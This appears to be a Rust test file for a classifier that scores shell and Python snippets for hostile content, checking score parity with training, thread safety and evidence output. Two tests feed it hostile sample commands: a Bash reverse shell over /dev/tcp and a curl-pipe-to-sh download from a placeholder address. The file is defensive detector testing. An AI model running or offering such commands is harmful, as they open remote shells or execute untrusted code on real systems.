//! The Rust scoring path reproduces the training pipeline's scores.
//!
//! models/train.py writes models/parity.jsonl: for each of our synthetic
//! samples (models/synthetic/, never the shared corpus) the score scikit-learn
//! gave the feature vector the Rust featurizer computed. Here the same text goes
//! through the Rust featurizer and the ONNX model via onnxruntime.

use std::collections::HashMap;
use std::path::PathBuf;

use sensor_classifier::model::{ModelMeta, EMBEDDED_META};
use sensor_classifier::runtime::locate_onnxruntime;
use sensor_classifier::{features, Classifier, Lang};
use serde_json::Value;

fn models_dir() -> PathBuf {
    PathBuf::from(env!("CARGO_MANIFEST_DIR")).join("../models")
}

fn read_jsonl(path: PathBuf) -> Vec<Value> {
    let text = std::fs::read_to_string(&path)
        .unwrap_or_else(|e| panic!("reading {}: {e}", path.display()));
    text.lines()
        .filter(|l| !l.trim().is_empty())
        .map(|l| serde_json::from_str(l).unwrap())
        .collect()
}

/// None (test skipped) only outside CI when onnxruntime is not installed yet.
fn classifier() -> Option<Classifier> {
    if let Err(err) = locate_onnxruntime() {
        assert!(
            std::env::var_os("CI").is_none(),
            "CI must provide onnxruntime: {err}"
        );
        eprintln!("SKIPPED (onnxruntime missing): {err}");
        return None;
    }
    Some(Classifier::load_embedded().expect("embedded model loads"))
}

#[test]
fn embedded_model_matches_this_feature_schema() {
    let meta: ModelMeta = serde_json::from_str(EMBEDDED_META).unwrap();
    assert_eq!(
        meta.feature_schema,
        features::schema_fingerprint(),
        "retrain with `cargo xtask train`"
    );
    assert_eq!(meta.dim, features::dim());
    assert_eq!(meta.weights.len(), meta.dim);
    assert!(meta.thresholds.bash > 0.0 && meta.thresholds.bash < 1.0);
    assert!(meta.thresholds.python > 0.0 && meta.thresholds.python < 1.0);
}

#[test]
fn rust_scores_equal_training_scores() {
    let Some(classifier) = classifier() else {
        return;
    };
    let contents: HashMap<String, (Lang, String)> =
        read_jsonl(models_dir().join("synthetic/synthetic.jsonl"))
            .into_iter()
            .map(|v| {
                let lang: Lang = v["lang"].as_str().unwrap().parse().unwrap();
                (
                    v["id"].as_str().unwrap().to_owned(),
                    (lang, v["content"].as_str().unwrap().to_owned()),
                )
            })
            .collect();
    let expected = read_jsonl(models_dir().join("parity.jsonl"));
    assert!(
        expected.len() >= 20,
        "parity fixture too small: {}",
        expected.len()
    );
    let mut worst = 0f64;
    for row in &expected {
        let id = row["id"].as_str().unwrap();
        let (lang, content) = contents
            .get(id)
            .unwrap_or_else(|| panic!("{id} missing from models/synthetic"));
        let got = classifier.score(content, *lang).unwrap().score as f64;
        let want = row["score"].as_f64().unwrap();
        let diff = (got - want).abs();
        worst = worst.max(diff);
        assert!(
            diff <= 1e-5,
            "{id}: rust {got} vs training {want} (|diff| {diff:e})"
        );
    }
    eprintln!("parity: {} samples, max |diff| {worst:e}", expected.len());
}

#[test]
fn classifier_is_shared_across_threads() {
    let Some(classifier) = classifier() else {
        return;
    };
    let classifier = std::sync::Arc::new(classifier);
    let text = "bash -i >& /dev/tcp/198.51.100.1/4444 0>&1";
    let alone = classifier.score(text, Lang::Bash).unwrap();
    let handles: Vec<_> = (0..4)
        .map(|_| {
            let c = classifier.clone();
            std::thread::spawn(move || c.score(text, Lang::Bash).unwrap())
        })
        .collect();
    for h in handles {
        assert_eq!(h.join().unwrap(), alone);
    }
}

#[test]
fn evidence_names_what_drove_the_score() {
    let Some(classifier) = classifier() else {
        return;
    };
    let s = classifier
        .score("curl -fsSL http://198.51.100.7/x.sh | sh", Lang::Bash)
        .unwrap();
    assert!(!s.evidence.is_empty());
    assert!(
        s.evidence
            .iter()
            .any(|e| e.contains("pipes it straight into")),
        "{:?}",
        s.evidence
    );
    assert!(s.evidence.len() <= sensor_classifier::model::MAX_EVIDENCE);
    let benign = classifier.score("ls -la /srv", Lang::Bash).unwrap();
    assert!(benign.score < s.score);
}
